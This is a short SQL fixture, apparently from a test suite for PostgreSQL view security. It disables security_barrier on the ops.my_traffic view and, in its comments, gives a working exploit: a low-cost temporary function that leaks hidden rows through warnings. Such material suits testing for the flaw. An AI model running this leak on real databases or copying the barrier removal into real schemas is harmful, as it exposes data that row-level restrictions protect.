-- The traffic view loses its barrier: a cheap function of the user is called with hidden rows before the
-- filter.
-- about: my_traffic, traffic
-- as: hf_airports_app
-- exploit: SET ops.airport = 'AAA';
-- exploit: CREATE FUNCTION pg_temp.see(text) RETURNS boolean LANGUAGE plpgsql COST 0.000001
-- exploit:   AS 'BEGIN RAISE WARNING ''row %'', $1; RETURN false; END';
-- exploit: SELECT day FROM ops.my_traffic WHERE pg_temp.see(worst_note);
-- shows: row note-secret
ALTER VIEW ops.my_traffic SET (security_barrier = false);
